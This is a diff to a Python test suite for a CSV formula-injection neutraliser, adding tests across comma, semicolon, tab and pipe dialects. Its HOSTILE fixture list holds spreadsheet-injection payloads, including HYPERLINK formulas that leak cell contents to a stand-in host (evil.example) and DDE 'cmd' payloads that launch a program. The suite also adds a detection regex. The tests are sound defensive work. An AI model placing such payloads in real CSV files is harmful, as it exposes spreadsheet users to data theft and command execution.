@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import io
+import re
+from typing import Literal
 
 import pytest
 from hypothesis import given
@@ -35,7 +37,7 @@ def test_plain_csv_is_reserialised_unchanged_with_crlf() -> None:
         ("+1+1", "'+1+1"),
         ("-1+1", "'-1+1"),
         ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
-        ("\t=1+1", "'\t=1+1"),
+        ("\t=1+1", "'\t'=1+1"),  # TAB is a separator too: no live formula in a TSV reading
         ("\rx", '"\'\rx"'),
         ("\tplain", "'\tplain"),
         (
@@ -206,7 +208,7 @@ cells = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]
 
 @given(st.lists(st.lists(cells, min_size=1, max_size=5), max_size=5))
 def test_no_forwarded_cell_can_start_a_formula(rows: list[list[str]]) -> None:
-    """Whatever goes in, every cell that comes out starts harmlessly, and nothing is lost."""
+    """Whatever goes in, every cell that comes out starts harmlessly, and only ' is added."""
     source = io.StringIO()
     csv.writer(source, lineterminator="\r\n").writerows(rows)
     result = check_csv(source.getvalue().encode(), CsvPolicy())
@@ -216,9 +218,107 @@ def test_no_forwarded_cell_can_start_a_formula(rows: list[list[str]]) -> None:
     for original_row, forwarded_row in zip(rows, forwarded, strict=True):
         for original, cell in zip(original_row, forwarded_row, strict=True):
             assert cell.lstrip(' \t\r\n"\u00a0')[:1] not in {"=", "+", "-", "@"}
-            assert cell in (original, "'" + original)
+            assert cell.replace("'", "") == original.replace("'", "")
+            assert cell.count("'") >= original.count("'")
             changed += cell != original
     assert result.neutralised == changed
+    assert _LIVE_FORMULA.search(result.body.decode()) is None
+
+
+# Issue 18 item 8: the declared delimiter is not the only one a spreadsheet may use.
+
+# Where any common dialect (, ; TAB |) starts a field - the text's start, a separator or
+# a line break - followed by whitespace and quotes and a formula character.
+_LIVE_FORMULA = re.compile(r"(?:\A|[,;\t|\r\n])[\s\"]*[=+\-@]")
+Delimiter = Literal[",", ";", "\t", "|"]
+DIALECTS: list[Delimiter] = [",", ";", "\t", "|"]
+
+
+def _fields(text: str, delimiter: str) -> list[str]:
+    """Every field a reader with ``delimiter`` sees, quoted (csv) or naively split."""
+    quoted = [f for r in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for f in r]
+    naive = [f for line in re.split(r"[\r\n]", text) for f in line.split(delimiter)]
+    return quoted + naive
+
+
+def _live(text: str) -> list[tuple[str, str]]:
+    """The fields that start a formula in any dialect's reading of ``text``."""
+    return [
+        (delimiter, field)
+        for delimiter in DIALECTS
+        for field in _fields(text, delimiter)
+        if re.match(r"[\s\"]*[=+\-@]", field)
+    ]
+
+
+HOSTILE = [
+    b'SKU-1;=HYPERLINK("http://evil.example/?"&A1;"Click")\r\nSKU-2;ok\r\n',
+    b"SKU-1;=cmd|' /C calc'!A0\r\n",
+    b'SKU-1\t=HYPERLINK("http://evil.example";"x")\r\n',
+    b"SKU-1\t=cmd|'/c calc'!A1\r\nSKU-2\t@SUM(A1)\r\n",
+    b"SKU-1|=1+1\r\n",
+    b'"SKU-1;\t =1+1",x\r\n',
+    b'SKU-1; "+1\r\n',
+    b'a,"line 1\n=1+1"\r\n',
+]
+
+
+@pytest.mark.parametrize("body", HOSTILE[:4], ids=range(4))
+def test_semicolon_and_tab_bodies_on_a_comma_route_are_neutralised(body: bytes) -> None:
+    """A ; or TAB body on a route declared , is forwarded with no live formula in any reading."""
+    assert _live(body.decode()), "the probe itself must be hostile"
+    result = check_csv(body, CsvPolicy())
+    forwarded = result.body.decode()
+    assert _live(forwarded) == []
+    assert _LIVE_FORMULA.search(forwarded) is None
+    assert result.neutralised >= 1
+
+
+@pytest.mark.parametrize("body", HOSTILE, ids=range(len(HOSTILE)))
+@pytest.mark.parametrize("delimiter", DIALECTS, ids=["comma", "semicolon", "tab", "pipe"])
+def test_no_declared_dialect_lets_a_formula_through(body: bytes, delimiter: Delimiter) -> None:
+    """Under any declared delimiter a hostile body is refused as malformed or neutralised."""
+    policy = CsvPolicy(delimiter=delimiter)
+    try:
+        result = check_csv(body, policy)
+    except BodyRefused:
+        # Stray quotes in this dialect: refused (nothing forwarded), and only for that reason.
+        assert refusal(body, policy).code == "malformed-body"
+        return
+    assert _live(result.body.decode()) == []
+    assert _LIVE_FORMULA.search(result.body.decode()) is None
+
+
+def test_a_semicolon_body_on_a_comma_route_keeps_its_text() -> None:
+    """Only a ' is added before each formula; the rest of the cell is the client's."""
+    result = check_csv(b'SKU-1;=HYPERLINK("http://evil.example";"x");5\r\n', CsvPolicy())
+    (cell,) = next(csv.reader(io.StringIO(result.body.decode(), newline="")))
+    assert cell == 'SKU-1;\'=HYPERLINK("http://evil.example";"x");5'
+    assert result.neutralised == 1
+
+
+def test_a_semicolon_in_a_text_cell_is_left_alone() -> None:
+    """A separator followed by ordinary text is not a formula: nothing changes."""
+    body = b'id,note\r\n1,"call back; then ship, | fast"\r\n'
+    assert check_csv(body, CsvPolicy()) == CsvResult(body, 2, 0)
+
+
+dialect_cells = st.text(st.sampled_from(list(",;\t|\r\n \"'=+-@aZ0\u00a0")), max_size=12)
+
+
+@given(
+    st.lists(st.lists(dialect_cells, min_size=1, max_size=4), max_size=4),
+    st.sampled_from(DIALECTS),
+)
+def test_no_dialect_sees_a_formula_in_what_is_forwarded(
+    rows: list[list[str]], delimiter: Delimiter
+) -> None:
+    """Cells built from separators, quotes and formula characters, under any declared dialect."""
+    source = io.StringIO()
+    csv.writer(source, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
+    result = check_csv(source.getvalue().encode(), CsvPolicy(delimiter=delimiter))
+    assert _LIVE_FORMULA.search(result.body.decode()) is None
+    assert _live(result.body.decode()) == []
 
 
 def test_blank_lines_are_kept_and_counted_as_rows() -> None:
